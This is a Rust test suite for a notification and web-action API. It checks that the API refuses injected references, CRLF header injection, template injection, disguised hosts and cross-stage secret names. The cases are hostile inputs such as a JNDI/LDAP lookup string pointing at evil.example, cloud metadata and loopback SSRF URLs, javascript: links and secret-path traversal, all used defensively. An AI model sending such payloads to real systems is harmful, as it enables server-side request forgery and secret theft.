//! Texts that would become something else on their way: a content, a header, a template, another host, another stage. Each is refused with 400
//! and its place, and leaves nothing.

use crate::world::{World, schedule};
use serde_json::{Map, Value, json};

const REFERENCE: &str = "@content:1:dynamodb:s:86400:ng0Etg0subslsCKKke9orZQNb9p74JodA19cyKvdD5M:13";
/// As the first extension of this kind wrote them.
const OLD_REFERENCE: &str = "@content:dynamodb:table:record-3f0e6c8e-6f2b-4a8c-9d2f-0a7c1c7f5b11";
const FORECAST: &str = "https://api.weather.gov/gridpoints/TOP/31,80/forecast";

/// The place that is refused, and the body.
type Case = (&'static str, Value);

fn note(members: &Value) -> Value {
    let mut payload = json!({ "message": "hi" });
    payload.as_object_mut().unwrap().extend(members.as_object().unwrap().clone());
    json!({ "message_type": "notify", "payload": payload })
}

fn action(payload: &Value) -> Value {
    json!({ "message_type": "web_action", "payload": payload })
}

fn nested(levels: usize, value: Value) -> Value {
    (0..levels).fold(value, |value, _| json!([value]))
}

/// In every part of a message that may hold a text, and in every spelling that the extension finds.
fn references() -> Vec<Case> {
    let http = |body: Value| {
        action(&json!({ "action": "http", "url": "https://api.example.com/", "method": "POST", "body": body }))
    };
    let escaped = json!([REFERENCE]).to_string().replace('@', "\\u0040");
    let damaged = &REFERENCE[..REFERENCE.len() - 4];
    let envelope = json!({ "Type": "Notification", "Message": json!({ "a": REFERENCE }).to_string() }).to_string();
    let headers = json!({ "type": "none", "headers": { "x-a": REFERENCE } });
    let weather = json!({ "action": "weather", "url": FORECAST });
    vec![
        ("message_type", json!({ "message_type": REFERENCE, "payload": {} })),
        ("stage", json!({ "stage": REFERENCE, "message_type": "notify", "payload": { "message": "hi" } })),
        ("payload", json!({ "message_type": "notify", "payload": REFERENCE })),
        ("arguments", json!({ "message_type": "notify", "payload": { "message": "hi" }, "arguments": REFERENCE })),
        (
            "arguments.a.b[0]",
            json!({ "message_type": "notify", "payload": { "message": "hi" }, "arguments": { "a": { "b": [REFERENCE] } } }),
        ),
        ("payload.message", note(&json!({ "message": OLD_REFERENCE }))),
        ("payload.message", note(&json!({ "message": damaged }))),
        ("payload.message", note(&json!({ "message": escaped }))),
        ("payload.message", note(&json!({ "message": envelope }))),
        ("payload.title", note(&json!({ "title": REFERENCE }))),
        ("payload.tags[1]", note(&json!({ "tags": ["a", REFERENCE] }))),
        ("payload.actions[0].url", note(&json!({ "actions": [{ "action": "view", "label": "a", "url": REFERENCE }] }))),
        ("payload.body", http(json!(REFERENCE))),
        ("payload.body.order.lines[2]", http(json!({ "order": { "lines": [1, 2, REFERENCE] } }))),
        ("payload.body", http(json!(json!({ "a": [REFERENCE] }).to_string()))),
        (
            "payload.auth_config.headers.x-a",
            action(&json!({ "action": "http", "url": "https://api.example.com/", "auth_config": headers })),
        ),
        (
            "auth_config.headers.x-a",
            json!({ "message_type": "web_action", "payload": weather, "auth_config": headers }),
        ),
        ("payload.message", json!({ "message_type": "agent_response", "payload": { "message": REFERENCE } })),
        (
            "payload.payload.a",
            json!({ "message_type": "schedule_creation", "payload": { "payload": { "a": REFERENCE } } }),
        ),
        // The payload as JSON text, which is read too.
        ("payload", json!({ "message_type": "notify", "payload": json!({ "message": REFERENCE }).to_string() })),
    ]
}

/// What ends a line for somebody: also the characters whose last byte does, and what Unicode calls a line.
fn headers() -> Vec<Case> {
    let with = |headers: Value| {
        action(
            &json!({ "action": "http", "url": "https://api.example.com/", "auth_config": { "type": "none", "headers": headers } }),
        )
    };
    let mut cases: Vec<Case> = Vec::new();
    for separator in ["\r\n", "\n", "\r", "\0", "\u{b}", "\u{c}", "\u{85}", "\u{2028}", "\u{2029}"] {
        cases.push(("payload.title", note(&json!({ "title": format!("a{separator}Actions: b") }))));
        cases.push(("payload.tags[0]", note(&json!({ "tags": [format!("a{separator}b")] }))));
        cases.push(("payload.click", note(&json!({ "click": format!("https://a.example/{separator}b") }))));
        cases.push(("payload.auth_config.headers.x-a", with(json!({ "x-a": format!("b{separator}x-c: d") }))));
        cases.push(("payload.auth_config.headers", with(json!({ format!("x-a{separator}x-c"): "b" }))));
        cases.push((
            "payload.url",
            action(&json!({ "action": "weather", "url": format!("{FORECAST}{separator}x: y") })),
        ));
    }
    // 嘍嘊 are U+560D and U+560A.
    cases.push(("payload.auth_config.headers.x-a", with(json!({ "x-a": "b嘍嘊x-c: d" }))));
    for name in ["Host", "authorization", "Cookie", "Transfer-Encoding", "content-length", "", "x a", "x:a", "ｘ-a"] {
        cases.push(("payload.auth_config.headers", with(json!({ name: "b" }))));
    }
    let many: Map<String, Value> = (0..11).map(|number| (format!("x-{number}"), json!("a"))).collect();
    cases.push(("payload.auth_config.headers", with(Value::Object(many))));
    cases
}

/// ntfy knows templates, and buttons that act on a phone.
fn templates() -> Vec<Case> {
    let button = |members: Value| {
        let mut button = json!({ "action": "view", "label": "Open", "url": "https://a.example/" });
        button.as_object_mut().unwrap().extend(members.as_object().unwrap().clone());
        note(&json!({ "actions": [button] }))
    };
    let mut cases = vec![
        ("payload.title", note(&json!({ "title": "{{ .Token }}" }))),
        ("payload.title", note(&json!({ "title": "a }} b" }))),
        ("payload.title", note(&json!({ "title": "${jndi:ldap://evil.example/a}" }))),
        ("payload.tags[0]", note(&json!({ "tags": ["{{range .}}"] }))),
        ("payload.click", note(&json!({ "click": "https://a.example/{{.message}}" }))),
        ("payload.actions[0].label", button(json!({ "label": "{{.Env}}" }))),
        ("payload.actions[0].label", button(json!({ "label": "a\nview, b, https://evil.example" }))),
        ("payload.actions[0].url", button(json!({ "url": "https://a.example/{{.x}}" }))),
        ("payload.actions[0].action", button(json!({ "action": "broadcast" }))),
        ("payload.actions[0].action", button(json!({ "action": "VIEW" }))),
        ("payload.actions[0].body", button(json!({ "body": "{{.}}" }))),
        ("payload.actions[0].method", button(json!({ "method": "DELETE" }))),
        ("payload.actions", note(&json!({ "actions": "view, Open, https://evil.example" }))),
        ("payload.actions", note(&json!({ "actions": [{}, {}, {}, {}] }))),
        ("payload.tags", note(&json!({ "tags": ["a", "b", "c", "d", "e", "f", "g", "h", "i"] }))),
    ];
    for member in ["template", "attach", "email", "call", "delay", "topic", "icon", "sequence_id", "x-actions"] {
        cases.push((Box::leak(format!("payload.{member}").into_boxed_str()), note(&json!({ member: "yes" }))));
    }
    for link in [
        "javascript:alert(1)",
        "http://a.example/",
        "HTTPS://a.example/",
        "https://",
        "https:///a",
        "https://a.example@evil.example/",
        "https://ａ.example/",
        "intent://a#Intent;end",
        "https://a.example/;http, b, https://evil.example",
        "https://a.example/\"",
    ] {
        cases.push(("payload.click", note(&json!({ "click": link }))));
        cases.push(("payload.actions[0].url", button(json!({ "url": link }))));
    }
    cases
}

/// URLs that mean another host than they show.
fn hosts() -> Vec<Case> {
    let urls = [
        "http://api.weather.gov/",
        "ftp://api.weather.gov/",
        "//api.weather.gov/",
        "api.weather.gov",
        "https://api.weather.gov:8443/",
        "https://api.weather.gov./",
        "https://user@api.weather.gov/",
        "https://evil.example#@api.weather.gov/",
        "https://2130706433/",
        "https://0x7f.1/",
        "https://[::1]/",
        "https://[::ffff:10.0.0.1]/",
        "https://169.254.169.254/",
        "https://localhost/",
        "https://ａpi.weather.gov/",
        "https://api.weather.gov%2eevil.example/",
        "https://api.weаther.gov/",
        "https://api.weather.gov\\@evil.example/",
        "https://api。weather.gov/",
        " https://api.weather.gov/",
        "https://api.wea\tther.gov/",
        "https://xapi.weather.gov/",
        "https://api.weather.gov.evil.example/",
    ];
    urls.into_iter().map(|url| ("payload.url", action(&json!({ "action": "weather", "url": url })))).collect()
}

/// Other stages, and secrets of others.
fn stages() -> Vec<Case> {
    let mut cases: Vec<Case> = Vec::new();
    for stage in ["prod", "DEV", " dev", "dev ", "dev\0", "ｄｅｖ", "", "dev,prod"] {
        let body = json!({ "stage": stage, "message_type": "notify", "payload": { "message": "hi" } });
        cases.push(("stage", body));
    }
    for secret in [
        "rez-agent/golf/credentials-prod",
        "rez-agent/../llm-secrets-dev",
        "/rez-agent/a-dev",
        "rez-agent",
        "rez-agent/a-dev/b-prod",
        "arn:aws:secretsmanager:eu-central-1:123456789012:secret:rez-agent/a-dev",
        "rez-agent//-dev",
        "rez-agent/a-dev\n",
        "",
    ] {
        let config = json!({ "type": "bearer", "secret_name": secret });
        let body = action(&json!({ "action": "http", "url": "https://api.example.com/", "auth_config": config }));
        cases.push(("payload.auth_config.secret_name", body));
    }
    cases
}

async fn refused(world: &World, path: &str, cases: Vec<Case>) {
    for (field, body) in cases {
        let answer = world.post(path, &body).await;
        assert_eq!((answer.status, answer.body["field"].as_str()), (400, Some(field)), "{body}: {answer:?}");
        let said = answer.body.to_string();
        assert!(
            !answer.error().contains(['\n', '\r']) && !said.contains("@content") && !said.contains("{{."),
            "{said}"
        );
    }
    assert_eq!((world.rows().await, world.published().len()), (0, 0), "nothing is left");
}

#[tokio::test]
async fn a_reference_is_refused_wherever_it_is_and_however_it_is_spelt() {
    let world = World::start().await;
    refused(&world, "/api/messages", references()).await;
    // As deep as JSON goes.
    let deepest =
        json!({ "message_type": "notify", "payload": { "message": "hi", "a": nested(120, json!(REFERENCE)) } });
    let answer = world.post("/api/messages", &deepest).await;
    let field = answer.body["field"].as_str().unwrap();
    assert!(answer.status == 400 && field.starts_with("payload.a[0][0]"), "{answer:?}");
    assert_eq!((world.rows().await, world.published().len()), (0, 0));
}

#[tokio::test]
async fn what_is_in_front_of_a_reference_makes_it_text() {
    let world = World::start().await;
    let texts = [format!("see {REFERENCE}"), format!(" {REFERENCE}"), "@content".to_owned(), "@contents: 1".to_owned()];
    for text in texts {
        let answer = world.post("/api/messages", &note(&json!({ "message": text }))).await;
        assert_eq!(
            (answer.status, answer.body["payload"]["message"].as_str()),
            (201, Some(text.as_str())),
            "{answer:?}"
        );
    }
}

#[tokio::test]
async fn headers_cannot_be_injected() {
    refused(&World::start().await, "/api/messages", headers()).await;
}

#[tokio::test]
async fn templates_and_buttons_cannot_be_injected() {
    refused(&World::start().await, "/api/messages", templates()).await;
}

#[tokio::test]
async fn a_host_that_is_disguised_is_refused() {
    refused(&World::start().await, "/api/messages", hosts()).await;
}

#[tokio::test]
async fn other_stages_are_refused() {
    refused(&World::start().await, "/api/messages", stages()).await;
}

/// A schedule carries a message: the same is refused there.
#[tokio::test]
async fn a_schedule_hides_nothing() {
    let world = World::start().await;
    let within = |(field, message): Case| -> Option<Case> {
        let mut request = schedule("daily");
        for name in ["message_type", "payload", "arguments"] {
            request[name] = message.get(name).cloned().unwrap_or(json!({}));
        }
        request["target_type"] = request["message_type"].clone();
        let is_of_payload = field.starts_with("payload.") && request["message_type"] != "schedule_creation";
        is_of_payload.then_some((field, request))
    };
    let all = [references(), headers(), templates(), hosts(), stages()].concat();
    let cases: Vec<_> = all.into_iter().filter_map(within).collect();
    assert!(cases.len() > 100, "{}", cases.len());
    refused(&world, "/api/schedules", cases).await;
}
